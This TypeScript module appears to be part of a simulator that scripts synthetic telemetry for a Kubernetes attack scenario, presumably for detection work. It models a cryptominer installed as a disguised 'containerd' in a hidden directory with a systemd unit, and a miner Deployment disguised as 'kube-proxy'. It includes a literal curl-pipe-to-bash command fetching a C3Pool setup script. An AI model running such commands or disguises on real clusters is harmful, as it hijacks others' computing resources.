import { callApi, type World } from '../api.ts'
import { addWorkload, nodeOf } from '../cluster.ts'
import type { Pod, PodTemplate, Workload } from '../cluster-model.ts'
import { aptInstall } from '../packages.ts'
import type { Process } from '../processes.ts'
import { bringUpDeployment } from '../rollout.ts'
import { connect, run, start, startFirst, write } from '../runtime.ts'
import { SECOND_US } from '../timeline.ts'
import { deploymentObject, deploymentSpec } from '../workload-objects.ts'
import { curl } from './attack-foothold.ts'
import { NODES } from './cluster.ts'
import { C3POOL_DOWNLOAD, C3POOL_STRATUM, WALLET } from './indicators.ts'
import { EMBEDDED_KUBECTL, embeddedKubectl, tokenClient } from './stolen-token.ts'
import { at, attackStep, type Cast, consequenceOf } from './story.ts'

/** Step 12: the miner, installed as `containerd` below a hidden directory: in the notebook, and from a Deployment of his own. */

const SETUP_URL = `http://${C3POOL_DOWNLOAD.name}/xmrig_setup/raw/master/setup_c3pool_miner.sh`
const INSTALL_DIRECTORY = '/root/.configure'

/** The installer: download, unpack, disguise, systemd unit, start. */
function installMiner(world: World, script: Process, at_us: number): void {
  const second = (count: number) => at_us + count * SECOND_US
  run(world, script, second(1), { binary: '/usr/bin/mkdir', args: ['-p', INSTALL_DIRECTORY] })
  const archive = '/tmp/xmrig.tar.gz'
  curl(
    world,
    script,
    second(2),
    ['-L', '--progress-bar', `http://${C3POOL_DOWNLOAD.name}/xmrig_setup/raw/master/xmrig.tar.gz`, '-o', archive],
    C3POOL_DOWNLOAD,
    { lasts_us: 4 * SECOND_US }
  )
  const tar = run(world, script, second(7), {
    binary: '/usr/bin/tar',
    args: ['xf', archive, '-C', INSTALL_DIRECTORY],
    lasts_us: SECOND_US
  })
  run(world, tar, second(7) + 4_000, { binary: '/usr/bin/gzip', args: ['-d'], lasts_us: 900_000 })
  run(world, script, second(9), {
    binary: '/usr/bin/mv',
    args: [`${INSTALL_DIRECTORY}/xmrig`, `${INSTALL_DIRECTORY}/containerd`]
  })
  const config = `${INSTALL_DIRECTORY}/config_background.json`
  const pool = `s/"url": *"[^"]*",/"url": "${C3POOL_STRATUM.name}:${C3POOL_STRATUM.port}",/`
  run(world, script, second(10), { binary: '/usr/bin/sed', args: ['-i', pool, config] })
  run(world, script, second(11), {
    binary: '/usr/bin/sed',
    args: ['-i', `s/"user": *"[^"]*",/"user": "${WALLET}",/`, config]
  })
  const unit = '/etc/systemd/system/containerd.service'
  write(world, run(world, script, second(12), { binary: '/usr/bin/tee', args: [unit] }), second(12) + 1_000, unit)
  const miner = start(world, script, second(14), {
    binary: `${INSTALL_DIRECTORY}/containerd`,
    args: [`--config=${config}`],
    cwd: INSTALL_DIRECTORY
  })
  connect(world, miner, second(14) + 90_000, C3POOL_STRATUM.ip, C3POOL_STRATUM.port)
  // the pool drops it now and then, and it comes back
  connect(world, miner, second(64), C3POOL_STRATUM.ip, C3POOL_STRATUM.port)
}

/** In the notebook's container, from the attacker's terminal. */
export function mineInNotebook(world: World, shell: Process): void {
  const step = attackStep(world, 12, 'notebook-miner')
  curl(step, shell, at('18:00'), ['-s', '-L', SETUP_URL], C3POOL_DOWNLOAD)
  const script = start(step, shell, at('18:00.001'), { binary: '/usr/bin/bash', args: ['-s', WALLET] })
  installMiner(step, script, at('18:01'))
}

/** Named and labelled as if it were part of the cluster. */
const MINER_TEMPLATE: PodTemplate = {
  labels: { 'k8s-app': 'kube-proxy' },
  serviceAccount: 'default',
  containers: [
    {
      name: 'kube-proxy',
      image: 'ubuntu:22.04',
      command: ['/bin/bash', '-c'],
      args: [
        `apt-get update -qq && apt-get install -y -qq curl && curl -s -L ${SETUP_URL} | LC_ALL=en_US.UTF-8 bash -s ${WALLET}`
      ],
      process: {
        binary: '/bin/bash',
        args: [
          '-c',
          `apt-get update -qq && apt-get install -y -qq curl && curl -s -L ${SETUP_URL} | LC_ALL=en_US.UTF-8 bash -s ${WALLET}`
        ]
      }
    }
  ]
}

/** A DaemonSet in kube-system is refused, a Deployment in the shop is not. */
function createDeployment(world: World, peirates: Process, { notebook }: Cast): Workload {
  const step = attackStep(world, 12, 'deployment')
  const client = tokenClient(notebook, notebook, EMBEDDED_KUBECTL)
  embeddedKubectl(world, peirates, 12, '19:12', ['-n', 'kube-system', 'create', '-f', '/tmp/.x/ds.yaml'], 300_000, true)
  const query = 'fieldManager=kubectl-create&fieldValidation=Strict'
  callApi(step, at('19:12.100'), client, {
    verb: 'create',
    group: 'apps',
    resource: 'daemonsets',
    namespace: 'kube-system',
    name: 'kube-proxy-metrics',
    query,
    denied: true
  })
  embeddedKubectl(world, peirates, 12, '19:40', ['-n', 'shop', 'create', '-f', '/tmp/.x/d.yaml'])
  const workload = addWorkload(world.cluster, {
    kind: 'Deployment',
    namespace: 'shop',
    name: 'kube-proxy',
    replicas: 2,
    template: MINER_TEMPLATE,
    created_us: at('19:40.100')
  })
  const { name, namespace, created_us } = workload
  callApi(step, created_us, client, {
    verb: 'create',
    group: 'apps',
    resource: 'deployments',
    namespace,
    name,
    query,
    requestObject: {
      kind: 'Deployment',
      apiVersion: 'apps/v1',
      metadata: { name, namespace, labels: MINER_TEMPLATE.labels },
      spec: deploymentSpec(workload),
      status: {}
    },
    responseObject: deploymentObject(world.cluster, workload, null, null, created_us, { managed: 'kubectl-create' })
  })
  return workload
}

function runMinerPod(world: World, pod: Pod): void {
  const step = attackStep(world, 12, `miner/${pod.node.name}`)
  const bash = startFirst(step, pod)
  const installed_us = aptInstall(step, bash, bash.start_us + 40_000, {
    packages: ['curl'],
    download_us: 3 * SECOND_US
  })
  const setup_us = installed_us + 30_000
  curl(step, bash, setup_us, ['-s', '-L', SETUP_URL], C3POOL_DOWNLOAD)
  const script = start(step, bash, setup_us + 1_000, { binary: '/usr/bin/bash', args: ['-s', WALLET] })
  installMiner(step, script, setup_us + SECOND_US)
}

/** From a Deployment in the shop: the controllers do the rest. */
export function mineInCluster(world: World, peirates: Process, cast: Cast): void {
  const workload = createDeployment(world, peirates, cast)
  const nodes = [nodeOf(world.cluster, NODES.second), nodeOf(world.cluster, NODES.first)]
  const pods = bringUpDeployment(
    consequenceOf(world, 12, 'miner-rollout'),
    workload.created_us + 15_000,
    workload,
    nodes
  )
  for (const pod of pods) runMinerPod(world, pod)
}
